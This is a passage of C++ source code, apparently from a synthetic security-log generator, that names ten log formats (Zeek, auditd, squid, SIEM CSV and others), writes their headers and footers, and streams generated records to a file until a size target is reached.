    case TextKind::kJson: return "json";
    case TextKind::kAuditTrail: return "audit-trail";
    case TextKind::kSyslog: return "syslog";
    case TextKind::kAuditd: return "auditd";
    case TextKind::kWeb: return "web";
    case TextKind::kSquid: return "squid";
    case TextKind::kZeek: return "zeek";
    case TextKind::kCsv: return "csv";
    case TextKind::kApacheError: return "apache-error";
    case TextKind::kNginxError: return "nginx-error";
  }
  return "?";
}

const char* text_kind_file_name(TextKind kind) {
  switch (kind) {
    case TextKind::kJson: return "winlogbeat.jsonl";
    case TextKind::kAuditTrail: return "audit-trail.jsonl";
    case TextKind::kSyslog: return "auth.log";
    case TextKind::kAuditd: return "audit.log";
    case TextKind::kWeb: return "access.log";
    case TextKind::kSquid: return "squid-access.log";
    case TextKind::kZeek: return "conn.log";
    case TextKind::kCsv: return "siem-export.csv";
    case TextKind::kApacheError: return "error.log";
    case TextKind::kNginxError: return "nginx-error.log";
  }
  return "log";
}

TextGenerator::TextGenerator(TextKind kind, uint64_t seed)
    : state_(std::make_unique<State>(kind, seed)) {}
TextGenerator::TextGenerator(TextGenerator&&) noexcept = default;
TextGenerator& TextGenerator::operator=(TextGenerator&&) noexcept = default;
TextGenerator::~TextGenerator() = default;

void TextGenerator::header(std::string& out) {
  if (state_->format == TextKind::kZeek) {
    const CivilTime c = to_civil(state_->now);
    out +=
        "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n"
        "#path\tconn\n#open\t";
    add_date(out, c, '-');
    out += '-';
    add_padded(out, c.hour, 2);
    out += "-00-00\n";
    out +=
        "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\t"
        "orig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\t"
        "orig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents\n"
        "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\t"
        "string\tbool\tbool\tcount\tstring\tcount\tcount\tcount\tcount\tset[string]\n";
  } else if (state_->format == TextKind::kCsv) {
    out +=
        "timestamp,host,user,event_id,category,src_ip,dst_ip,dst_port,process,command_line,"
        "action,bytes,outcome\n";
  }
}

uint32_t TextGenerator::next(std::string& out) {
  State& s = *state_;
  switch (s.format) {
    case TextKind::kJson: return s.json(out);
    case TextKind::kAuditTrail: return s.audit_trail(out);
    case TextKind::kSyslog: return s.syslog(out);
    case TextKind::kAuditd: return s.auditd(out);
    case TextKind::kWeb: return s.web(out);
    case TextKind::kSquid: return s.squid(out);
    case TextKind::kZeek: return s.zeek(out);
    case TextKind::kCsv: return s.csv(out);
    case TextKind::kApacheError: return s.apache_error(out);
    case TextKind::kNginxError: return s.nginx_error(out);
  }
  return 0;
}

void TextGenerator::footer(std::string& out) {
  if (state_->format != TextKind::kZeek) return;
  const CivilTime c = to_civil(state_->now);
  out += "#close\t";
  add_date(out, c, '-');
  out += '-';
  add_padded(out, c.hour, 2);
  out += '-';
  add_padded(out, c.minute, 2);
  out += '-';
  add_padded(out, c.second, 2);
  out += '\n';
}

Result<TextStats> write_text_log(const std::string& path, TextKind kind, uint64_t seed,
                                 uint64_t min_bytes) {
  std::FILE* file = std::fopen(path.c_str(), "wb");
  if (file == nullptr) {
    Error e =
        make_error(Errc::kIoError, std::string("cannot create the file: ") + std::strerror(errno));
    e.source = path;
    return e;
  }
  TextGenerator generator(kind, seed);
  TextStats stats;
  std::string buffer;
  constexpr size_t kFlushBytes = 1 << 20;
  buffer.reserve(kFlushBytes + (64 << 10));
  bool failed = false;
  auto flush = [&] {
    stats.lines += static_cast<uint64_t>(std::count(buffer.begin(), buffer.end(), '\n'));
    stats.bytes += buffer.size();
    if (!failed && std::fwrite(buffer.data(), 1, buffer.size(), file) != buffer.size()) {
      failed = true;
    }
    buffer.clear();
  };
  generator.header(buffer);
  while (stats.bytes + buffer.size() < min_bytes) {
    stats.records += generator.next(buffer);
    if (buffer.size() >= kFlushBytes) flush();
    if (failed) break;
  }
  generator.footer(buffer);
  flush();
  if (std::fclose(file) != 0) failed = true;
  if (failed) {
    Error e = make_error(Errc::kIoError, std::string("writing failed: ") + std::strerror(errno));
    e.source = path;
    return e;
  }
  return stats;
}

}  // namespace vigil::synth
